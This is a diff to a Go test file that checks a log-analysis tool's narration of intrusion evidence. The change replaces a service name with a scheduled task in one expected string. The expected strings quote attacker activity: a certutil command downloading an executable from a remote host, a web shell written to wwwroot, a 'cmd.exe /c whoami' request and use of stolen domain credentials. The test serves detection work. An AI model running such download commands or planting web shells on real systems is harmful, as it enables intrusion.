@@ -50,7 +50,7 @@ func TestStoryTells(t *testing.T) {
 	for name, want := range map[string][]string{
 		"events-security": {
 			"POST /erp/i.aspx from 203.0.113.50: ", `certutil -urlcache -f http://192.0.2.80/u C:\ProgramData\upd.exe; connected to 192.0.2.80:80`, "same page: ",
-			"installed the service WinUpd", "run by the service WinUpd", "used the credentials of CORP\\dbadmin for DB01",
+			"installed the service WinUpd", `run by the scheduled task \Updater`, "used the credentials of CORP\\dbadmin for DB01",
 		},
 		"events-sysmon": {`wrote C:\inetpub\wwwroot\up\k.aspx`, "SHA-256 ", "its image was tampered with", "connected to 203.0.113.200:8443"},
 		"iis-post":      {"POST /uploads/img2.aspx from 203.0.113.9: cmd.exe /c whoami"},
